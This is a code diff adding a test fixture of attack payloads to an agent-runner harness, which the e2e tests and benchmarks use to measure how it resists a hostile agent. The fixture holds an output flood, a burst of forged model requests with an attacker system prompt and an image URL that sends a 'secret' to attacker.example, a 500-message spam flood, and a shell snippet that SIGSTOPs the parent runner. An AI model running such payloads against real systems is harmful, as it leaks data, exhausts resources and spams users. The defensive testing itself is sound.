@@ -200,6 +200,38 @@ export function forge(js: string): string {
   ].join('\n');
 }
 
+/**
+ * The attacks issue 6 measured, as bash commands for the attacker's agent; the e2e test
+ * asserts on them and the bench measures them.
+ */
+export const ATTACKS = {
+  /** 5000 `output` frames of 1 MB each. */
+  outputFlood: forge(`const text = 'x'.repeat(1_000_000);
+for (let i = 0; i < 5000; i++) out({ type: 'output', text });`),
+  /**
+   * One request with an image whose source is a URL, then 300 requests with the attacker's
+   * system prompt ("EVIL") and max_tokens 32000, all at once.
+   */
+  modelFlood: forge(`const messages = [{ role: 'user', content: 'leak' }];
+out({ type: 'model.request', requestId: 'url-1', system: 'EVIL', maxTokens: 32000, tools: [],
+  messages: [{ role: 'user', content: [{ type: 'image', source: { type: 'url', url: 'http://attacker.example/x?d=secret' } }] }] });
+setTimeout(() => {
+  for (let i = 0; i < 300; i++)
+    out({ type: 'model.request', requestId: 'forged-' + i, system: 'EVIL', maxTokens: 32000, tools: [], messages });
+}, 1000);
+setTimeout(() => {}, 3000);`),
+  /** 500 `send_message` host calls ("spam N"). */
+  sendFlood: forge(`for (let i = 0; i < 500; i++)
+  out({ type: 'host.call', callId: 'spam-' + i, name: 'send_message', args: { text: 'spam ' + i } });`),
+  /** The runner stopped with SIGSTOP while a background job writes blank lines to its stdout. */
+  stoppedRunner: [
+    '(while :; do echo > /proc/$PPID/fd/1; sleep 0.2; done) &',
+    'sleep 0.5',
+    'kill -STOP $PPID',
+    'sleep 600',
+  ].join('\n'),
+};
+
 /** A chat as the user sees it ("bot: …", "user: …"), once its outbox has nothing queued. */
 export async function chatOf(h: Harness, groupName: string): Promise<string[]> {
   const jid = h.jidOf(groupName);
